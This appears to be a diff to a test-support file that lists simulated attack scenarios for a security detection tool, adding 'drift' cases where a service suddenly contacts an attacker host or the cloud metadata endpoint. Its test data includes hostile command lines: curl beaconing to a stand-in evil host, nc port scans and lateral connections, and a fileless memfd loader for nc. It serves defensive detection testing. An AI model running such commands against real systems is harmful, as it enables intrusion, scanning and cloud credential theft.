@@ -10,6 +10,7 @@ from typing import Final
 from tests.support.scenarios.scenario import (
     BEACON,
     CLOUD,
+    DRIFT,
     DROPPED,
     KUBERNETES,
     LATERAL,
@@ -21,7 +22,7 @@ from tests.support.scenarios.scenario import (
     Scenario,
 )
 from tests.support.scenarios.shells import SHELLS
-from tests.support.scenarios.world import API, EVIL, EVIL_NAME, METADATA, PEER
+from tests.support.scenarios.world import API, EVIL, EVIL_NAME, METADATA, PARTNER, PEER
 
 _MEMFD = (
     "import os;f=os.memfd_create('k');os.write(f,open('/usr/bin/nc','rb').read());"
@@ -131,7 +132,7 @@ _BY_COUNTING: Final = (
     Scenario("beacon in turns", "entry", f'exec python3 -c "{_TURNS}"', (BEACON,), slower=1200),
     Scenario(
         "beacon of a script", "entry",
-        f"for n in $(seq 110); do curl -s http://{EVIL_NAME}/o; sleep 0.02; done", (BEACON,), ("curl",), slower=1200,
+        f"for n in $(seq 110); do curl -s http://{EVIL_NAME}/o; sleep 0.02; done", (BEACON,), ("curl",), slower=2400,
     ),
     Scenario("port scan", "python", f"for p in $(seq 1 40); do nc -z -w1 {PEER} $p; done", (SCAN, RCE), ("nc",)),
     Scenario("sweep of hosts", "entry", f'exec python3 -c "{_SWEEP}"', (SCAN,)),
@@ -160,4 +161,16 @@ _BY_PLACE: Final = (
     Scenario("a tool in a container reaches for a login", "entry", f"echo x | nc -w1 {PEER} 22", (LATERAL,), ("nc",)),
 )  # fmt: skip
 
-ATTACKS: Final = (*_DOWNLOADS, *SHELLS, *_DROPPED, *_BY_COUNTING, *_BY_PLACE)
+# No shell and no tool: the service itself is had go elsewhere, once it is known what it does.
+_BY_LEARNING: Final = (
+    Scenario(
+        "a service goes where it never went", "python fetch", " ".join([*[f"http://{PARTNER}/"] * 80, f"http://{EVIL_NAME}/"]),
+        (DRIFT,), slower=18_000,
+    ),
+    Scenario(
+        "a service asks the cloud for credentials", "python fetch", " ".join([*[f"http://{PARTNER}/"] * 80, f"http://{METADATA}/"]),
+        (DRIFT, CLOUD), slower=18_000,
+    ),
+)  # fmt: skip
+
+ATTACKS: Final = (*_DOWNLOADS, *SHELLS, *_DROPPED, *_BY_COUNTING, *_BY_PLACE, *_BY_LEARNING)
